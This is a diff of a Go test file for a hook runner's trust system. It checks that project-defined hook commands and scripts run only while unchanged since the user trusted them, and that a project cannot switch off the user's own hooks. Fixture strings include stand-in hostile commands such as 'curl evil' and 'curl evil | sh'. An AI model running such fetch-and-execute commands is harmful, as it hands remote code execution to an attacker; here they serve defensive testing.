@@ -15,6 +15,8 @@ import (
 
 	"github.com/drawbar/drawbar/adapter"
 	"github.com/drawbar/drawbar/execution"
+	"github.com/drawbar/drawbar/internal/config"
+	"github.com/drawbar/drawbar/internal/trust"
 )
 
 func TestParse(t *testing.T) {
@@ -25,6 +27,7 @@ func TestParse(t *testing.T) {
 	}
 	for name, bad := range map[string]string{
 		"empty": ``, "no object": `[]`, "trailing": good + `{}`, "another version": `{"version":2,"hooks":[]}`, "no version": `{"hooks":[]}`,
+		"another case": strings.Replace(good, "enabled", "Enabled", 1), "a key twice": strings.Replace(good, `"enabled":false`, `"enabled":true,"enabled":false`, 1), "null": strings.Replace(good, `"priority":5`, `"priority":null`, 1),
 		"unknown member": `{"version":1,"hooks":[],"hock":[]}`,
 		"twice":          strings.Replace(good, `]}`, `,{"id":"a","agent":"*","hookType":"*","handler":"builtin","target":"log"}]}`, 1),
 		"no id":          `{"version":1,"hooks":[{"agent":"*","hookType":"*","handler":"builtin","target":"log"}]}`,
@@ -64,7 +67,7 @@ func TestMerge(t *testing.T) {
 	for _, r := range Merge(global, project) {
 		ids = append(ids, r.ID+r.Target)
 	}
-	if diff := cmp.Diff([]string{"first", "sameproject", "default", "late"}, ids); diff != "" {
+	if diff := cmp.Diff([]string{"first", "sameglobal", "late", "sameproject", "default"}, ids); diff != "" {
 		t.Error(diff)
 	}
 }
@@ -150,65 +153,172 @@ func TestBuiltins(t *testing.T) {
 	}
 }
 
-// A project's commands run only as they were when the user trusted them.
-func TestTrust(t *testing.T) {
+// scene is a user's directory and a project.
+type scene struct {
+	t     *testing.T
+	root  string
+	files Files
+	store trust.Store
+}
+
+func newScene(t *testing.T) *scene {
+	t.Helper()
 	dir := t.TempDir()
-	user, project := filepath.Join(dir, "user"), filepath.Join(dir, "p", ".drawbar")
-	f := FilesIn(user, project)
-	write := func(content string) {
+	dirs := config.Dirs{User: filepath.Join(dir, "user"), Root: filepath.Join(dir, "p"), Project: filepath.Join(dir, "p", ".drawbar"), Found: true}
+	s := &scene{t: t, root: dirs.Root, files: FilesIn(dirs), store: trust.Store{File: trust.FileIn(dirs.User), Copies: filepath.Join(dir, "copies")}}
+	s.write("hk.sh", "exit 0\n")
+	return s
+}
+
+func (s *scene) write(name, content string) {
+	s.t.Helper()
+	path := filepath.Join(s.root, name)
+	if filepath.IsAbs(name) {
+		path = name
+	}
+	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
+		s.t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o700); err != nil {
+		s.t.Fatal(err)
+	}
+}
+
+// read gives the ids that run, and whether something is not trusted.
+func (s *scene) read() (string, bool) {
+	s.t.Helper()
+	list, pending, err := s.files.Read(s.store)
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	var ids []string
+	for _, r := range list {
+		ids = append(ids, r.ID)
+	}
+	return strings.Join(ids, " "), len(pending) > 0
+}
+
+func (s *scene) trust() {
+	s.t.Helper()
+	list, err := s.files.ReadScope(adapter.ScopeProject)
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	if err := s.files.Trust(s.t.Context(), s.store, s.files.Items(list), true); err != nil {
+		s.t.Fatal(err)
+	}
+}
+
+func (s *scene) want(what, ids string, pending bool) {
+	s.t.Helper()
+	if got, skipped := s.read(); got != ids || skipped != pending {
+		s.t.Errorf("%s: %q run, something is not trusted: %v; want %q, %v", what, got, skipped, ids, pending)
+	}
+}
+
+// A project's commands run only as they were when the user trusted them, with the scripts that they name.
+func TestTrust(t *testing.T) {
+	s := newScene(t)
+	const evil = `{"version":1,"hooks":[{"id":"a","agent":"*","hookType":"*","handler":"command","target":"sh ./hk.sh evil"}]}`
+	s.write(".drawbar/hooks.json", evil)
+	s.want("new", "", true)
+	s.trust()
+	s.want("trusted", "a", false)
+	s.write(".drawbar/hooks.json", strings.Replace(evil, "evil", "worse", 1))
+	s.want("another command", "", true)
+	s.write(".drawbar/hooks.json", evil)
+	s.want("as it was", "a", false)
+	s.write("hk.sh", "curl evil | sh\n")
+	s.want("another script", "", true)
+	s.trust()
+	s.write(".drawbar/hooks.json", `{"version":1,"hooks":[{"id":"b","agent":"*","hookType":"*","handler":"builtin","target":"log"}]}`)
+	s.want("built-in only", "b", false)
+}
+
+// What the user adds by a command is trusted, and nothing else of the project.
+func TestWhatTheUserAddsIsTrusted(t *testing.T) {
+	s := newScene(t)
+	change := func(edit func([]Registration) []Registration) {
 		t.Helper()
-		if err := os.MkdirAll(project, 0o700); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.WriteFile(f.Project, []byte(content), 0o600); err != nil {
+		if err := s.files.Change(t.Context(), s.store, adapter.ScopeProject, func(l []Registration) ([]Registration, error) { return edit(l), nil }); err != nil {
 			t.Fatal(err)
 		}
 	}
-	read := func() (int, bool) {
-		t.Helper()
-		list, skipped, err := f.Read()
-		if err != nil {
-			t.Fatal(err)
-		}
-		return len(list), skipped
+	add := func(l []Registration) []Registration {
+		return append(l, Registration{ID: "mine", Agent: "*", HookType: "*", Handler: Command, Target: "true"})
 	}
-	const evil = `{"version":1,"hooks":[{"id":"a","agent":"*","hookType":"*","handler":"command","target":"curl evil"}]}`
-	write(evil)
-	if n, skipped := read(); n != 0 || !skipped {
-		t.Errorf("untrusted: %d %v", n, skipped)
+	change(add)
+	s.want("a new file", "mine", false)
+	priority := func(l []Registration) []Registration {
+		p := 5
+		l[0].Priority = &p
+		return l
 	}
-	if err := f.Trust(t.Context()); err != nil {
+	change(priority)
+	s.want("a change of what is trusted", "mine", false)
+
+	s.write(".drawbar/hooks.json", `{"version":1,"hooks":[{"id":"theirs","agent":"*","hookType":"*","handler":"command","target":"curl evil"},
+		{"id":"off","agent":"*","hookType":"*","handler":"command","target":"curl evil","enabled":false}]}`)
+	change(add)
+	change(priority)
+	change(func(l []Registration) []Registration { l[1].Enabled = nil; return l })
+	list, err := s.files.ReadScope(adapter.ScopeProject)
+	if err != nil {
 		t.Fatal(err)
 	}
-	if n, skipped := read(); n != 1 || skipped {
-		t.Errorf("trusted: %d %v", n, skipped)
+	pending, err := s.store.Pending(s.root, s.files.Items(list))
+	if err != nil || len(pending) != 2 || pending[0].Place != "hooks.theirs" || pending[1].Place != "hooks.off" {
+		t.Errorf("got %+v, %v", pending, err)
 	}
-	write(strings.Replace(evil, "evil", "worse", 1))
-	if n, skipped := read(); n != 0 || !skipped {
-		t.Errorf("changed since: %d %v", n, skipped)
+}
+
+// A project cannot switch off what the user registered, trusted or not.
+func TestAProjectReplacesNothing(t *testing.T) {
+	s := newScene(t)
+	s.write(s.files.Global, `{"version":1,"hooks":[{"id":"any-PreToolUse","agent":"*","hookType":"PreToolUse","handler":"command","target":"exit 1"}]}`)
+	s.write(".drawbar/hooks.json", `{"version":1,"hooks":[{"id":"any-PreToolUse","agent":"*","hookType":"PreToolUse","handler":"builtin","target":"log","enabled":false,"priority":-5}]}`)
+	list, pending, err := s.files.Read(s.store)
+	if err != nil || len(pending) != 0 || len(list) != 2 || list[0].Target != "exit 1" || !list[0].On() {
+		t.Errorf("got %+v, %v, %v", list, pending, err)
 	}
-	write(`{"version":1,"hooks":[{"id":"a","agent":"*","hookType":"*","handler":"builtin","target":"log"}]}`)
-	if n, skipped := read(); n != 1 || skipped {
-		t.Errorf("built-in only: %d %v", n, skipped)
+}
+
+// What is executed is what was checked: in the project's folder, and only while the files are the trusted ones.
+func TestWhatRunsIsWhatWasTrusted(t *testing.T) {
+	s := newScene(t)
+	s.write(".drawbar/hooks.json", `{"version":1,"hooks":[{"id":"a","agent":"*","hookType":"*","handler":"script","target":"./hk.sh"}]}`)
+	s.write("sub/hk.sh", "curl evil\n")
+	s.trust()
+	list, _, err := s.files.Read(s.store)
+	if err != nil || len(list) != 1 {
+		t.Fatalf("%v %v", list, err)
 	}
-	// What the user adds by a command is trusted; adding to what is not trusted leaves it so.
-	add := func(id string) {
-		t.Helper()
-		err := f.Change(t.Context(), adapter.ScopeProject, func(l []Registration) ([]Registration, error) {
-			return append(l, Registration{ID: id, Agent: "*", HookType: "*", Handler: Command, Target: "true"}), nil
-		})
-		if err != nil {
-			t.Fatal(err)
-		}
+	var asked []adapter.SpawnRequest
+	d := &Dispatcher{Spawn: func(_ context.Context, c adapter.SpawnRequest) (adapter.SpawnOutcome, error) {
+		asked = append(asked, c)
+		return adapter.SpawnOutcome{}, nil
+	}}
+	call := execution.HookCall{Data: execution.HookData{Cwd: filepath.Join(s.root, "sub")}}
+	if res := d.Dispatch(t.Context(), list, call); res.Decision != execution.HookAllow || len(asked) != 1 || asked[0].Command != filepath.Join(s.root, "hk.sh") || asked[0].Cwd != s.root {
+		t.Errorf("got %+v, ran %+v", res, asked)
 	}
-	add("b")
-	if n, skipped := read(); n != 2 || skipped {
-		t.Errorf("added: %d %v", n, skipped)
+	s.write("hk.sh", "curl evil\n")
+	if res := d.Dispatch(t.Context(), list, call); res.Decision != execution.HookDeny || len(asked) != 1 || !strings.Contains(res.Message, "changed since") {
+		t.Errorf("got %+v, ran %+v", res, asked)
 	}
-	write(evil)
-	add("c")
-	if n, skipped := read(); n != 0 || !skipped {
-		t.Errorf("added to what is not trusted: %d %v", n, skipped)
+}
+
+func TestAProjectsModificationGivesWay(t *testing.T) {
+	var ran []string
+	d := &Dispatcher{Spawn: scripted(map[string]adapter.SpawnOutcome{
+		"mine": {Stdout: `{"decision":"modify","modifiedInput":{"a":"mine"}}`}, "theirs": {Stdout: `{"decision":"modify","modifiedInput":{"a":"theirs","b":"theirs"}}`}}, &ran)}
+	theirs := Registration{ID: "t", Handler: Command, Target: "theirs"}
+	theirs.origin = &origin{root: t.TempDir()}
+	theirs.origin.item = item(theirs.origin.root, "f", theirs)
+	theirs.origin.item.File = "f"
+	res := d.Dispatch(t.Context(), []Registration{{ID: "m", Handler: Command, Target: "mine"}, theirs}, execution.HookCall{})
+	if string(res.ModifiedInput) != `{"a":"mine","b":"theirs"}` {
+		t.Errorf("got %s", res.ModifiedInput)
 	}
 }
 
